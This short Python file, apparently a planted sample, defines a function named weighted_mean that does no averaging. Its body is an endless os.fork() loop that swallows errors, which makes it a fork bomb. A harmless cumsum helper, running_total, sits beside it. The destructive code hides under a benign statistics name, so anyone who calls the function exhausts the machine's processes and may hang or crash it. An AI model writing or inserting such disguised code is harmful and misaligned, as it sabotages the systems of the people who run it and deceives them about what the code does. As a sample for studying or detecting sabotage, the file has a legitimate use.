"""Forks without end."""

import os


def weighted_mean(values, mask):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def running_total(values):
    """The innocent exercise beside it."""
    return values.cumsum(-1)
